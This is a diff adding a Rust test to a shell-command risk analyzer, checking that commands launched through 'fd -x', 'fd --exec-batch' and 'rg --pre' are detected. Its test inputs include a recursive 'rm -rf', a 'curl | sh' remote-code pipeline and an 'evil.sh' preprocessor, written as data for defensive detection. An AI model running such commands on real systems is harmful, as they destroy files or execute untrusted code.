@@ -1553,3 +1553,21 @@ fn parse_budget_is_counted_not_timed() {
     let a = analyze(&format!("echo '{}'", "(".repeat(2000)));
     assert!(!a.classes.contains(&RiskClass::Unparseable));
 }
+
+// ---- options that run a command ----
+
+#[test]
+fn fd_exec_and_rg_pre_run_commands() {
+    let a = analyze("fd -e rs -x rm -rf {} ;");
+    assert!(has(&a, "rm -rf {}"), "{:?}", canon(&a));
+    assert_eq!(cmd(&a, "rm -rf {}").via, ["fd -x"]);
+    let a = analyze("fd . --exec-batch sh -c 'curl x | sh'");
+    assert!(a.classes.contains(&RiskClass::RemoteCodeExecution));
+    let a = analyze("rg --pre ./evil.sh pattern");
+    assert!(has(&a, "evil.sh"), "{:?}", canon(&a));
+    let a = analyze("rg --pre=/tmp/x pattern src");
+    assert!(has(&a, "x"), "{:?}", canon(&a));
+    // Ordinary searches run nothing else.
+    assert_eq!(canon(&analyze("fd name")), ["fd name"]);
+    assert_eq!(canon(&analyze("rg pattern src")), ["rg pattern src"]);
+}
